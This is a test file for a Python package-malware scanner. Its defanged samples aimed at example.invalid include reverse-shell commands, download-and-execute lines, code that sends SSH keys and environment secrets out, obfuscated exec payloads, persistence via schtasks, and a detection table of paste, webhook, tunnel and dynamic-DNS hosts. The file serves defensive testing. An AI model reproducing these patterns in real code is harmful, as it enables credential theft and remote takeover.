"""Each scanner rule's samples, declared beside it in scan/rules/<family>.py: a positive one
fires it, a negative one does not (defanged: example.invalid, inert); then the techniques."""

from __future__ import annotations

import base64
import codecs
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest

from pipwarden.rules import Sample, negative, positive
from pipwarden.scan import endpoints as E
from pipwarden.scan import scan_target
from pipwarden.scan.engine import FileContext, analyse_member
from pipwarden.scan.rules import CATALOGUE
from tests.support.builders import build_sdist, build_wheel, compress, tar_bytes

INERT = "print('inert sample')"
B64 = base64.b64encode(INERT.encode()).decode()
HEX = INERT.encode().hex()
ZLIB = zlib.compress(INERT.encode())
ROT = codecs.encode(INERT, "rot13")
URL = "https://example.invalid/x"


def rules_of(source: str | bytes, name: str = "pkg/mod.py", kind: str = "wheel") -> set[str]:
    data = source.encode() if isinstance(source, str) else source
    return {f.rule for f in analyse_member(FileContext(name, kind, kind == "wheel"), data)}


def rules_of_sample(sample: Sample, tmp_path: Path) -> set[str]:
    """The rules a sample fires: a file sample analysed as its path in a target of its kind,
    an archive sample written out and scanned whole."""
    if not sample.is_archive:
        return rules_of(sample.data(), sample.path, sample.kind)
    path = tmp_path / sample.path
    if sample.members and sample.kind == "sdist":
        path.write_bytes(compress(tar_bytes([(n, _bytes(d)) for n, d in sample.members]), "gz"))
    elif sample.members or not sample.data():
        with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as z:
            warnings.simplefilter("ignore")  # a duplicate name, on purpose
            for name, data in sample.members:
                z.writestr(name, data)
    else:
        path.write_bytes(sample.data())
    return {f.rule for f in scan_target(path).findings}


def _bytes(data: str | bytes) -> bytes:
    return data.encode() if isinstance(data, str) else data


#: Samples not yet moved beside their rule's declaration, run as if declared there:
#: (rule, positive, negative, member name, target kind). Move each into its rule as
#: ``samples=(positive(pos, name, kind), negative(neg, name, kind))``.
CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = []

#: Scanner rules without samples, and why; the tests named show them instead.
WITHOUT_SAMPLES = {
    "model.malware-likely": "the trained model's judgement of a whole target's facts, "
    "not of one input (tests/test_scan_model.py)",
    "archive.zip-bomb": "megabytes that expand past the ratio limit (tests/test_scan_archive.py)",
    "archive.member-too-large": "a member past the 64 MiB limit (tests/test_scan_archive.py)",
    "archive.too-large": "a target past the 1 GiB limit (tests/test_scan_archive.py)",
    "archive.too-many-members": "50,000 members (tests/test_scan_archive.py)",
    "archive.budget-exceeded": "a scan past its time or memory budget (tests/test_scan_hostile.py)",
    "archive.link": "a tar link header, which a member list cannot say "
    "(tests/test_scan_archive.py, tests/test_scan_context.py)",
    "archive.special-file": "a tar device or FIFO header (tests/test_scan_archive.py)",
    "archive.truncated": "a compressed stream cut off (tests/test_scan_hostile.py)",
    "archive.trailing-data": "bytes after a tar's end marker inside gzip (tests/test_scan_hostile.py)",
    "archive.concatenated-gzip": "two gzip streams joined (tests/test_scan_hostile.py)",
}


def _samples() -> list[object]:
    params: list[object] = []
    for r in CATALOGUE:
        for i, sample in enumerate(r.samples):
            kind = "positive" if sample.fires else "negative"
            params.append(pytest.param(r.id, sample, id=f"{r.id}-{kind}-{i}"))
    for rule, pos, neg, name, kind in CASES:
        params.append(pytest.param(rule, positive(pos, name, kind), id=f"{rule}-positive-case"))
        params.append(pytest.param(rule, negative(neg, name, kind), id=f"{rule}-negative-case"))
    return params


@pytest.mark.parametrize(("rule", "sample"), _samples())
def test_rule_sample(rule: str, sample: Sample, tmp_path: Path) -> None:
    """A positive sample fires its rule, a negative one does not."""
    assert (rule in rules_of_sample(sample, tmp_path)) is sample.fires


def test_every_scanner_rule_has_a_positive_and_a_negative_sample() -> None:
    shown = {r.id: {s.fires for s in r.samples} for r in CATALOGUE}
    for rule, *_ in CASES:
        shown[rule] |= {True, False}
    missing = {rule for rule, kinds in shown.items() if kinds != {True, False}}
    assert missing == set(WITHOUT_SAMPLES)
    assert not any(shown[rule] for rule in WITHOUT_SAMPLES)


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64


def test_binary_dropper_in_pure_wheel(tmp_path: Path) -> None:
    name, data = build_wheel(
        "demo", "1.0", {"demo/__init__.py": "", "demo/helper": ELF, "demo/logo.png": ELF}
    )
    path = tmp_path / name
    path.write_bytes(data)
    result = scan_target(path)
    sev = {f.file: f.severity.label for f in result.findings if f.rule.startswith("binary-dropper")}
    # A binary under its own name is worth a look; one disguised as data is suspicious.
    assert sev == {"demo/helper": "medium", "demo/logo.png": "high"}
    assert result.verdict == "suspicious"
    name, data = build_wheel(
        "demo", "1.0", {"demo/_ext.so": ELF}, tag="cp311-cp311-manylinux_2_17_x86_64"
    )
    path = tmp_path / name
    path.write_bytes(data)
    assert not {f.rule for f in scan_target(path).findings}


@pytest.mark.parametrize(
    ("spelled", "rule"),
    [
        (b"curl http://example.invalid/x | sh", "download-execute.remote-command"),
        (b"nc -e /bin/sh example.invalid 4444", "reverse-shell.command"),
        (b"bash -i >& /dev/tcp/example.invalid/4444 0>&1", "reverse-shell.command"),
        (b"no tool is named here", None),
    ],
)
def test_commands_spelled_inside_a_binary_where_none_belongs(
    tmp_path: Path, spelled: bytes, rule: str | None
) -> None:
    """A binary in a pure wheel is read for download and shell commands it carries."""
    binary = ELF + b"\0" * 4096 + spelled + b"\0" * 32
    name, data = build_wheel("demo", "1.0", {"demo/__init__.py": "", "demo/helper": binary})
    path = tmp_path / name
    path.write_bytes(data)
    critical = {f.rule for f in scan_target(path).findings if f.severity.label == "critical"}
    assert critical == ({rule} if rule else set())


def test_binary_dropper_in_sdist(tmp_path: Path) -> None:
    pe = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 32
    name, data = build_sdist(
        "demo", "1.0", {"demo/tool.exe": pe, "demo/readme.txt": "MZ is a letter pair"}
    )
    path = tmp_path / name
    path.write_bytes(data)
    found = [(f.rule, f.file) for f in scan_target(path).findings]
    assert ("binary-dropper.executable", "demo-1.0/demo/tool.exe") in found
    assert all(f != "demo-1.0/demo/readme.txt" for _, f in found)


# ------------------------------------------------------------------ folding


@pytest.mark.parametrize(
    "expr",
    [
        f"base64.b64decode({B64!r})",
        f"base64.b64decode({B64.encode()!r})",
        f"bytes.fromhex({HEX!r})",
        f"binascii.unhexlify({HEX!r})",
        f"zlib.decompress({ZLIB!r})",
        f"codecs.decode({ROT!r}, 'rot13')",
        f"{INERT[::-1]!r}[::-1]",
        "''.join(chr(c) for c in [" + ",".join(str(ord(c)) for c in INERT) + "])",
        "''.join(map(chr, [" + ",".join(str(ord(c)) for c in INERT) + "]))",
        "+".join(f"chr({ord(c)})" for c in INERT),
        f"base64.b32decode({base64.b32encode(INERT.encode())!r})",
    ],
)
def test_folded_payloads_reaching_exec_are_critical(expr: str) -> None:
    src = f"import base64, binascii, zlib, codecs\nexec({expr})\n"
    assert "obfuscation.exec-decoded" in rules_of(src)


@pytest.mark.parametrize(
    "src",
    [
        "getattr(__builtins__, 'ex' + 'ec')(payload)",
        "getattr(__import__('built' + 'ins'), 'exec')(payload)",
        "__import__('o' + 's').system(cmd)",
        "__import__(''.join(['o', 's'])).system(cmd)",
        "getattr(__import__(bytes.fromhex('6f73').decode()), 'system')(cmd)",
    ],
)
def test_hidden_names_are_resolved(src: str) -> None:
    assert "obfuscation.hidden-name" in rules_of(src)


def test_folded_name_resolves_to_sink() -> None:
    src = f"import base64\nf = getattr(__builtins__, 'ex' + 'ec')\nf(base64.b64decode({B64!r}))\n"
    assert {"obfuscation.hidden-name", "obfuscation.exec-decoded"} <= rules_of(src)
    src = "import base64\n__import__('o'+'s').system(base64.b64decode('aWQ='))\n"
    assert "obfuscation.exec-decoded" in rules_of(src)


def test_dataflow_through_variables_and_fstrings() -> None:
    src = (
        "import os, json, urllib.request\n"
        "def f():\n"
        "    env = dict(os.environ)\n"
        "    body = json.dumps({'e': env}).encode()\n"
        f"    req = urllib.request.Request(f'{URL}', data=body)\n"
        "    urllib.request.urlopen(req)\n"
    )
    assert "exfiltration.credentials" in rules_of(src)
    # A single variable read from the environment is not a secret dump.
    benign = src.replace("dict(os.environ)", "os.environ.get('HOME')")
    assert "exfiltration.credentials" not in rules_of(benign)


def test_source_and_sink_in_different_functions_are_not_linked() -> None:
    src = (
        "import os, requests\n"
        "def read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        f"def send(x):\n    requests.post({URL!r}, data=x)\n"
    )
    found = rules_of(src)
    assert "exfiltration.credentials" not in found
    assert "exfiltration.credential-access" in found


def test_unparsed_files_still_get_byte_rules() -> None:
    src = f"print 'py2'\nexec(base64.b64decode('{B64}'))\nu = 'https://pastebin.com/raw/x'\n"
    found = rules_of(src)
    assert {
        "parse.not-parsed",
        "obfuscation.exec-decoded",
        "suspicious-endpoint.paste-site",
    } <= found


@pytest.mark.parametrize(
    "data",
    [
        b"x = 1\x00\n",
        b"x = '\xff\xfe invalid utf-8'\n",
        bytes(range(256)) * 4,
        b"x = " + b"-" * 10000 + b"1\n",
        b"x = " + b"not " * 10000 + b"1\n",
        b"x = 1" + b" + 1" * 20000 + b"\n",
        b"x = " + b"[" * 10000 + b"]" * 10000 + b"\n",
        "".join(" " * i + "if x:\n" for i in range(200)).encode() + b" " * 200 + b"pass\n",
    ],
    ids=[
        "nul",
        "utf8",
        "binary",
        "unary-deep",
        "not-deep",
        "long-chain",
        "list-deep",
        "indent-deep",
    ],
)
def test_hostile_sources_never_crash(data: bytes) -> None:
    findings = analyse_member(FileContext("pkg/mod.py", "wheel", True), data)
    assert all(f.file == "pkg/mod.py" for f in findings)


def test_long_addition_chain_is_analysed() -> None:
    src = "x = 1" + " + 1" * 20000 + f"\nimport base64\nexec(base64.b64decode({B64!r}))\n"
    assert "obfuscation.exec-decoded" in rules_of(src)


def test_docstrings_with_urls_are_not_endpoints() -> None:
    src = 'def f():\n    """See https://pastebin.com/raw/abc for details."""\n'
    assert rules_of(src) == set()


# ------------------------------------------------------------------ dataflow extras


def test_container_mutation_and_param_summaries_carry_secrets() -> None:
    src = (
        "import glob, os, requests\n_keys = {}\n"
        "for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
        "    with open(p) as fh:\n        _keys[p] = fh.read()\n"
        f"requests.post({URL!r}, json=_keys)\n"
    )
    assert "exfiltration.credentials" in rules_of(src)
    src = (
        "import socket\ndef _leak(data):\n    socket.gethostbyname(data.hex() + '.example.invalid')\n"
        "_leak(open('/home/u/.ssh/id_rsa', 'rb').read())\n"
    )
    assert "exfiltration.credentials" in rules_of(src)


def test_secret_env_vars_weigh_by_context() -> None:
    at_import = f"import os, requests\nrequests.post({URL!r}, data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
    found = analyse_member(FileContext("pkg/mod.py", "wheel", True), at_import.encode())
    assert any(
        f.rule == "exfiltration.credentials" and f.severity.label == "critical" for f in found
    )
    api_client = (
        "import os, httpx\ndef client():\n    token = os.environ.get('GITHUB_TOKEN')\n"
        "    return httpx.Client(headers={'Authorization': token})\n"
    )
    found = analyse_member(FileContext("pkg/mod.py", "wheel", True), api_client.encode())
    assert all(f.severity.label in ("medium", "low", "info") for f in found)


def test_lambda_inlining_and_decoded_payload_analysis() -> None:
    src = "_m = lambda n: __import__(n[::-1])\n_m('ssecorpbus').Popen(['id'])\n"
    assert {"obfuscation.hidden-name", "startup-hook.import-process"} <= rules_of(src)
    inner = "import os, json, urllib.request\nurllib.request.urlopen('https://x.example.invalid', data=json.dumps(dict(os.environ)).encode())\n"
    src = f"import base64\nP = base64.b64decode({base64.b64encode(inner.encode()).decode()!r})\n"
    assert "exfiltration.credentials" in rules_of(src)


@pytest.mark.parametrize(
    "cmd",
    [
        "['sh', '-c', 'wget -q -O /tmp/.u https://x.example.invalid/u && chmod +x /tmp/.u && /tmp/.u']",
        "'powershell -w hidden -c \"iwr https://x.example.invalid/a.exe -OutFile a.exe; Start-Process a.exe\"'",
        "['python', '-c', 'import urllib.request as u;exec(u.urlopen(\"https://x.example.invalid\").read())']",
    ],
)
def test_command_lines_that_download_and_run(cmd: str) -> None:
    found = rules_of(f"import subprocess\ndef f():\n    subprocess.Popen({cmd})\n")
    assert found & {"download-execute.remote-command", "download-execute.remote-code"}


def test_scripts_and_tests_have_no_import_time_findings() -> None:
    src = "import subprocess\nsubprocess.run(['id'])\n"
    assert "startup-hook.import-process" in rules_of(src, "pkg/mod.py")
    assert "startup-hook.import-process" not in rules_of(src, "pkg/__main__.py")
    assert "startup-hook.import-process" not in rules_of(src, "pkg/tests/test_x.py")
    assert "startup-hook.import-process" not in rules_of(src, "pkg/manual tests/x.py")
    assert "startup-hook.import-process" not in rules_of(src, "p-1.0/pkg_tests/x.py", "sdist")
    # A project's own package and its sdist's root folder are imported code, whatever
    # their name says ("test" in a project name does not make it a test suite).
    assert "startup-hook.import-process" in rules_of(src, "beacon_test_01/mod.py")
    assert "startup-hook.import-process" not in rules_of(src, "unit_tests/mod.py")
    own = "beacon_test_01-0.2.0/src/beacon_test_01/mod.py"
    assert "startup-hook.import-process" in rules_of(src, own, "sdist")
    assert "startup-hook.import-process" in rules_of(src, "beacon-test-0.1/pkg/mod.py", "sdist")
    assert "startup-hook.import-process" not in rules_of(
        "#!/usr/bin/env python3\n" + src, "tools/x.py"
    )
    # A package's __init__ is imported whatever its first line says.
    assert "startup-hook.import-process" in rules_of(
        "#!/usr/bin/env python3\n" + src, "pkg/__init__.py"
    )
    assert "startup-hook.import-process" in rules_of(src, "latest/mod.py")
    guarded = "import sys, pty\nif sys.platform != 'win32' and __name__ == '__main__':\n    pty.spawn(['sh'])\n"
    assert "startup-hook.import-process" not in rules_of(guarded)


def test_benign_subprocess_and_network_stay_quiet() -> None:
    src = (
        "import subprocess, requests\n"
        "def version():\n    return subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
        "def fetch(url):\n    return requests.get(url, timeout=5).json()\n"
        "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
    )
    assert rules_of(src) == set()


XOR_SRC = "".join(f"\\x{c ^ 7:02x}" for c in INERT.encode())
MORE: dict[str, tuple[str, str]] = {
    "environ-as-string": (
        f"import os, requests\nrequests.post({URL!r}, data={{'e': str(os.environ)}})\n",
        "malicious",
    ),
    "shell-cat-key": (
        "import subprocess, requests\ndef f():\n"
        "    k = subprocess.check_output('cat ~/.ssh/id_rsa', shell=True)\n"
        f"    requests.post({URL!r}, data=k)\n",
        "malicious",
    ),
    "import-chain": (
        "getattr(__import__('importlib').import_module('o'+'s'), 'sys'+'tem')('id')\n",
        "suspicious",
    ),
    "dunder-imports": (
        "__import__('builtins').exec(__import__('zlib').decompress("
        f"__import__('base64').b64decode({base64.b64encode(ZLIB).decode()!r})))\n",
        "malicious",
    ),
    "popen-on-socket": (
        "import socket, subprocess\ns = socket.create_connection(('example.invalid', 4444))\n"
        "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n",
        "malicious",
    ),
    "schtasks": (
        "import subprocess, sys\nsubprocess.run(['schtasks', '/create', '/tn', 'u', '/tr', sys.executable])\n",
        "malicious",
    ),
    "thread-beacon": (
        "import threading, platform, requests\ndef b():\n"
        f"    requests.get({URL!r}, params={{'h': platform.node()}})\nthreading.Thread(target=b).start()\n",
        "suspicious",
    ),
    "xor-comprehension": (
        f"k = 7\ndata = bytes([b ^ k for b in b'{XOR_SRC}'])\nexec(data)\n",
        "malicious",
    ),
    "method-exfil": (
        "import os, requests\nclass C:\n    def go(self):\n"
        "        data = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"
        f"        requests.post({URL!r}, json={{'k': data}})\n",
        "malicious",
    ),
    "benign-comprehensions": (
        "NAMES = [n.upper() for n in ('a', 'b')]\nCODES = bytes([c + 1 for c in b'abc'])\n",
        "clean",
    ),
}


@pytest.mark.parametrize("name", list(MORE))
def test_more_techniques(name: str) -> None:
    from pipwarden.scan import verdict

    src, expected = MORE[name]
    found = analyse_member(FileContext("pkg/__init__.py", "wheel", True), src.encode())
    assert verdict(found) == expected, [(f.rule, f.severity.label) for f in found]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("https://pastebin.com/raw/PIPWARDENTEST", "paste-site"),
        ("https://paste.ee/r/abc", "paste-site"),
        ("https://hastebin.com/raw/x", "paste-site"),
        ("https://ghostbin.co/paste/x", "paste-site"),
        ("https://rentry.co/x/raw", "paste-site"),
        ("https://dpaste.org/x/raw", "paste-site"),
        ("https://transfer.sh/x/payload", "paste-site"),
        ("https://file.io/x", "paste-site"),
        ("https://anonfiles.com/x", "paste-site"),
        ("https://bashupload.com/x", "paste-site"),
        ("https://0x0.st/x.bin", "paste-site"),
        ("termbin.com 9999", "paste-site"),
        ("https://paste.c-net.org/x", "paste-site"),
        ("https://pastes.io/raw/x", "paste-site"),
        ("https://privatebin.example.invalid/?x", "paste-site"),
        (
            "https://cdn.discordapp.example.invalid/attachments/1098765432/1198765432/a.exe",
            "paste-site",
        ),
        ("https://DISCORD.com/api/webhooks/123/abc", "webhook"),
        ("https://discordapp.com/api/webhooks/123/abc", "webhook"),
        ("https://api.telegram.org/bot123:AA/sendMessage", "webhook"),
        ("https://hooks.slack.com/services/T000/B000/x", "webhook"),
        ("https://relay.example.invalid/api/webhooks/1234567/abcdefgh12", "webhook"),
        ("https://relay.example.invalid/bot12345:abc/sendDocument", "webhook"),
        ("https://relay.example.invalid/services/TABCDEFG/BABCDEFG/x", "webhook"),
        ("https://abcd.ngrok.io/x", "tunnel"),
        ("https://abcd.ngrok-free.app/x", "tunnel"),
        ("https://x.trycloudflare.com", "tunnel"),
        ("ssh -R 80:localhost:80 serveo.net", "tunnel"),
        ("https://x.localhost.run", "tunnel"),
        ("https://webhook.site/uuid", "tunnel"),
        ("https://x.requestbin.net", "tunnel"),
        ("https://x.m.pipedream.net", "tunnel"),
        ("x.oast.fun", "tunnel"),
        ("x.interact.sh", "tunnel"),
        ("x.burpcollaborator.net", "tunnel"),
        ("http://canarytokens.com/x", "tunnel"),
        ("http://abc.onion/x", "tunnel"),
        ("https://x.interactsh.example.invalid", "tunnel"),
        ("https://x.localtunnel.me", "tunnel"),
        ("c2.duckdns.org", "dynamic-dns"),
        ("c2.no-ip.biz", "dynamic-dns"),
        ("c2.ddns.net", "dynamic-dns"),
        ("c2.hopto.org", "dynamic-dns"),
        ("c2.zapto.org", "dynamic-dns"),
        ("c2.sytes.net", "dynamic-dns"),
        ("c2.dynu.net", "dynamic-dns"),
        ("c2.freedns.afraid.org", "dynamic-dns"),
        ("c2.serveftp.com", "dynamic-dns"),
        ("https://c2.myftp.example.invalid", "dynamic-dns"),
        ("https://c2.bounceme.example.invalid", "dynamic-dns"),
        ("https://c2.servebeer.example.invalid", "dynamic-dns"),
        ("https://c2.dynv6.example.invalid", "dynamic-dns"),
        ("https://c2.dyndns.example.invalid", "dynamic-dns"),
        ("https://c2.freeddns.example.invalid", "dynamic-dns"),
        ("https://c2.noip.example.invalid", "dynamic-dns"),
        ("http://203.0.113.7:8080/x", "raw-ip"),
    ],
)
def test_endpoint_table(text: str, rule: str) -> None:
    """Every service of the endpoint table, also through the literal pre-check."""
    hit = E.endpoint(text)
    assert hit is not None and hit[0].value == rule, (text, hit)


def test_endpoint_table_ignores_ordinary_hosts() -> None:
    for text in ("https://pypi.org/simple/", "https://github.com/psf/requests", "a.b.c", "x://y"):
        assert E.endpoint(text) is None


def test_placeholder_webhook_secret_is_not_a_secret() -> None:
    """A webhook written out with a random secret is the author's channel (high); the
    documented placeholder of a library's settings is not (it stays a medium mention)."""
    real = "https://hooks.slack.com/services/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"
    docs = "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
    assert E.webhook_secret(real) and not E.webhook_secret(docs)
    for url, label in ((real, "high"), (docs, "medium")):
        ctx = FileContext("pkg/settings.py", "wheel", True)
        found = analyse_member(ctx, f"HOOK = {url!r}\n".encode())
        sev = {f.severity.label for f in found if f.rule == "suspicious-endpoint.webhook"}
        assert sev == {label}, (url, found)
